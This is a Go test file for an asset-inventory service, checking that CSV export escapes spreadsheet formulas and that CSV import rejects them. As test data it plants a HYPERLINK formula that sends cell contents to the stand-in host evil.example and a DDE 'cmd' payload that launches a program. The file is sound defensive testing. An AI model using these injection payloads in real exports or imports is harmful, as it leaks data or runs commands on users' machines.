package lifecycle_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/lanyardhq/lanyard/controlplane/domain"
	"github.com/lanyardhq/lanyard/controlplane/lifecycle"
	"github.com/lanyardhq/lanyard/controlplane/store"
	"github.com/lanyardhq/lanyard/controlplane/store/storetest"
)

// OWASP's formula prefixes.
var formulaPrefixes = []string{"=", "+", "-", "@", "\t", "\r"}

// A formula planted in any exported column leaves the export as quoted text
// with a leading single quote. Columns come from lifecycle.CSVColumns: a new
// column without a way to plant a value here fails the test.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	storetest.EachDB(t, func(t *testing.T, db *store.DB) {
		h := newHarness(t, db, harnessOpts{noRiver: true})
		a := apiHarness(t, h)
		tok := a.Token(h.org.ID, domain.RoleViewer)
		ctx := context.Background()
		// Values reach the database from agents, MDM, HR and the API; plant
		// them directly so the export is tested whatever the inputs allow.
		column := func(col string) func(d domain.Device, v string) {
			return func(d domain.Device, v string) {
				if _, err := db.SQL.ExecContext(ctx, `UPDATE devices SET `+col+` = $1 WHERE id = $2`, v, d.ID); err != nil {
					t.Fatal(err)
				}
			}
		}
		plant := map[string]func(d domain.Device, v string){
			"serial_number":  column("serial_number"),
			"vendor":         column("vendor"),
			"model":          column("model"),
			"platform":       column("platform"),
			"equipment_type": column("equipment_type"),
			"state":          column("state"),
			"assigned_email": func(d domain.Device, v string) {
				e := storetest.Employee(t, db, h.org.ID, "F"+d.SerialNumber)
				e.HR.WorkEmail = v
				if err := store.UpdateEmployee(ctx, db.SQL, &e); err != nil {
					t.Fatal(err)
				}
				if _, err := db.SQL.ExecContext(ctx, `UPDATE devices SET assigned_employee_id = $1 WHERE id = $2`, e.ID, d.ID); err != nil {
					t.Fatal(err)
				}
			},
		}
		// purchase_date is a date column: it cannot hold text.
		typed := map[string]bool{"purchase_date": true}
		type planted struct{ col, value string }
		want := map[string]planted{} // device id → what was planted
		for ci, col := range lifecycle.CSVColumns {
			if typed[col] {
				continue
			}
			set, ok := plant[col]
			if !ok {
				t.Fatalf("export column %q: no way to plant a formula in it; add one to this test", col)
			}
			for pi, p := range formulaPrefixes {
				d := storetest.Device(t, db, h.org.ID, fmt.Sprintf("F%d-%d", ci, pi))
				v := p + `HYPERLINK("http://evil.example/?"&A1,"click")`
				set(d, v)
				want[d.ID] = planted{col, v}
			}
		}
		resp := a.Do("GET", "/api/v1/assets/export", tok, nil)
		if resp.Status != 200 {
			t.Fatalf("export %d %s", resp.Status, resp.Body)
		}
		recs, err := csv.NewReader(strings.NewReader(string(resp.Body))).ReadAll()
		if err != nil {
			t.Fatalf("export is not CSV: %v", err)
		}
		found := 0
		for _, rec := range recs[1:] {
			for i, cell := range rec {
				for _, p := range formulaPrefixes {
					if strings.HasPrefix(cell, p) {
						t.Errorf("column %s exported a live formula: %q", lifecycle.CSVColumns[i], cell)
					}
				}
				for _, w := range want {
					if lifecycle.CSVColumns[i] == w.col && cell == "'"+w.value {
						found++
						// Quoted on the wire, as OWASP asks.
						if !strings.Contains(string(resp.Body), `"'`+strings.ReplaceAll(w.value, `"`, `""`)+`"`) {
							t.Errorf("column %s: %q not quoted", w.col, cell)
						}
					}
				}
			}
		}
		if found != len(want) {
			t.Fatalf("found %d of %d planted formulas, neutralised", found, len(want))
		}
	})
}

// The import refuses a formula (or a control character) in any cell with a
// row error naming the column, and imports nothing.
func TestCSVImportRefusesFormulas(t *testing.T) {
	db := storetest.NewSQLite(t)
	h := newHarness(t, db, harnessOpts{noRiver: true})
	a := apiHarness(t, h)
	tok := a.Token(h.org.ID, domain.RoleIT)
	header := strings.Join(lifecycle.CSVColumns, ",")
	good := []string{"IMP1", "apple", "MacBook Air", "macos", "laptop", "2025-01-02", "in_stock", ""}
	var b strings.Builder
	b.WriteString(header + "\n")
	type cell struct {
		row int
		col string
	}
	want := map[cell]bool{}
	row := 2
	for ci, col := range lifecycle.CSVColumns {
		for _, p := range append(formulaPrefixes, "\x1b[2J", "\u202e") {
			rec := append([]string(nil), good...)
			rec[0] = fmt.Sprintf("IMP-%d-%d", ci, row)
			rec[ci] = p + "cmd|' /C calc'!A0"
			w := csv.NewWriter(&b)
			_ = w.Write(rec)
			w.Flush()
			want[cell{row, col}] = true
			row++
		}
	}
	resp := a.Do("POST", "/api/v1/assets/import", tok, b.String())
	if resp.Status != 422 {
		t.Fatalf("import %d %s", resp.Status, resp.Body)
	}
	var rep lifecycle.ImportReport
	resp.JSON(t, &rep)
	got := map[cell]bool{}
	for _, e := range rep.Errors {
		got[cell{e.Row, e.Column}] = true
	}
	for c := range want {
		if !got[c] {
			t.Errorf("row %d column %s: not refused", c.row, c.col)
		}
	}
	devs, _, _ := db.ListDevices(context.Background(), h.org.ID, store.DeviceFilter{}, store.Page{})
	if rep.Imported != 0 || len(devs) != 0 {
		t.Fatalf("imported %d (%d devices)", rep.Imported, len(devs))
	}
}
